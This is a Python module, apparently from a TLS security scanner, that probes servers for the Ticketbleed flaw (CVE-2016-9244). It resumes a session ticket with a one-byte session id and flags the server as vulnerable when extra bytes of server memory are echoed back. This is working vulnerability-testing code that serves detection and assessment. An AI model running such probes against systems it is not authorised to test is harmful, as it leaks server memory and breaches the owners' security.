"""Ticketbleed (CVE-2016-9244): does a resumed session echo more of a session id than was sent?

One handshake is finished to get a ticket, which comes in the clear (RFC 5077 section 3.3). Hellos with
that ticket and a session id of one byte follow: 32 bytes back are 31 bytes of memory.
"""

import asyncio
import os
import ssl
from dataclasses import dataclass, replace

from probe.collect.answers import NoAnswer, Why
from probe.collect.tls.attacks.messages import Aftermath
from probe.collect.tls.attacks.target import Outcome, Target, no_answer
from probe.collect.tls.codec import ClientHello, Terms, TlsFormatError, Version
from probe.collect.wire import Wire, permissive_context
from probe.model.tls import AttackReply

HANDSHAKE_S = 15.0
FULL_ID_BYTES, SHORT_ID_BYTES = 32, 1
_ID_AT = 5 + 4 + 2 + 32 + 1
"""Bytes of record, message, version, random and length in front of a ServerHello's session id."""


@dataclass(frozen=True, slots=True)
class _Resumed:
    """The answer to a hello with a ticket; ``session_id`` is None when the session did not go on."""

    session_id: bytes | None
    detail: str = ""


async def ticketbleed(target: Target) -> Outcome:
    """Raises NoAnswer when no connection or no handshake comes about."""
    if target.hello.version <= Version.SSL3:
        return Outcome(AttackReply.NOT_APPLICABLE, "SSLv3 has no session tickets")
    flight = await _handshake(target)
    if not flight.ticket or flight.hello is None:
        text = "a finished handshake brought no session ticket"
        return Outcome(AttackReply.NOT_APPLICABLE, text)
    hello = replace(
        target.hello,
        version=Version(flight.hello.version),
        suites=(flight.hello.suite,),
        terms=Terms(ticket=flight.ticket),
    )
    control = await _resume(target, hello, os.urandom(FULL_ID_BYTES))
    if control.session_id is None:
        return no_answer(
            f"the ticket was not accepted with an ordinary session id: {control.detail}"
        )
    answers = [await _resume(target, hello, os.urandom(SHORT_ID_BYTES)) for _ in range(2)]
    return _judge(answers)


def _judge(answers: list[_Resumed]) -> Outcome:
    lengths = [None if a.session_id is None else len(a.session_id) for a in answers]
    if all(a.detail == _LEAK for a in answers):
        text = (
            f"a session id of {SHORT_ID_BYTES} byte was echoed with {lengths[0]}, twice: the others are "
            "memory of the service, which were not kept"
        )
        return Outcome(AttackReply.VULNERABLE, text)
    if all(a.detail == _NEW for a in answers):
        text = "the ticket is not accepted with a session id of one byte, twice"
        return Outcome(AttackReply.NOT_VULNERABLE, text)
    if all(a.detail in (_EXACT, _NONE) for a in answers):
        text = "a session id of one byte was echoed without a byte more, twice"
        return Outcome(AttackReply.NOT_VULNERABLE, text)
    return no_answer(
        f"a ticket with a session id of one byte met {' and '.join(a.detail for a in answers)}"
    )


_LEAK, _EXACT, _NONE = "more bytes than were sent", "the bytes sent", "an empty session id"
_OTHER, _NEW = "another session id", "a new session"


async def _resume(target: Target, hello: ClientHello, session_id: bytes) -> _Resumed:
    fresh = replace(hello, random=os.urandom(32), terms=replace(hello.terms, session_id=session_id))
    async with target.stream(f"ticket and a session id of {len(session_id)}") as talk:
        talk.guard()
        heard = await talk.greet(fresh)
        answer = talk.flight.hello
        if answer is None or heard.met is not None:
            talk.reveal()
            return _Resumed(None, f"{heard}")
        if not talk.flight.encrypted:
            talk.reveal()
            return _Resumed(None, _NEW)
        echoed = answer.session_id
        if echoed == session_id or not echoed:
            talk.reveal()
            return _Resumed(echoed, _EXACT if echoed else _NONE)
        leak = echoed.startswith(session_id)
        talk.reveal(_ID_AT + (len(session_id) if leak else 0))
        return _Resumed(echoed, _LEAK if leak else _OTHER)


async def _handshake(target: Target) -> Aftermath:
    """Finish one handshake below TLS 1.3 that trusts anything; what came in the clear is read along."""
    await target.interview.turn()
    fact, name = target.fact, target.interview.server_name
    context = permissive_context()
    context.maximum_version = ssl.TLSVersion.TLSv1_2
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing, server_hostname=name)
    flight = Aftermath()
    try:
        async with (
            target.session.connect(fact.address, fact.port, within=target.patience) as wire,
            asyncio.timeout(HANDSHAKE_S),
        ):
            try:
                await _finish(wire, tls, incoming, outgoing, flight)
            finally:
                target.keep(wire.transcript.to_bytes(), "whole handshake for a session ticket")
    except TimeoutError:
        raise NoAnswer(Why.SILENT, f"no finished handshake within {HANDSHAKE_S:.0f} s") from None
    except ssl.SSLError as error:
        raise NoAnswer(Why.GARBAGE, f"the handshake for a ticket failed: {error.reason}") from None
    return flight


async def _finish(
    wire: Wire,
    tls: ssl.SSLObject,
    incoming: ssl.MemoryBIO,
    outgoing: ssl.MemoryBIO,
    flight: Aftermath,
) -> None:
    """Raises SSLError, and NoAnswer when the device ends it."""
    while True:
        try:
            tls.do_handshake()
        except ssl.SSLWantReadError:
            pass
        else:
            return
        if outgoing.pending:
            await wire.send(outgoing.read())
        data = await wire.recv(16_384, HANDSHAKE_S)
        if not data:
            raise NoAnswer(Why.ENDED, "closed during the handshake for a ticket")
        incoming.write(data)
        if not flight.encrypted:
            _read_along(flight, data)


def _read_along(flight: Aftermath, data: bytes) -> None:
    """Read what is in the clear, past the ends at which a flight stops by itself."""
    try:
        flight.feed(data)
        while flight.done and not flight.encrypted and flight.fatal is None:
            flight.go_on()
    except TlsFormatError as error:
        raise NoAnswer(Why.GARBAGE, f"in the handshake for a ticket: {error}") from None
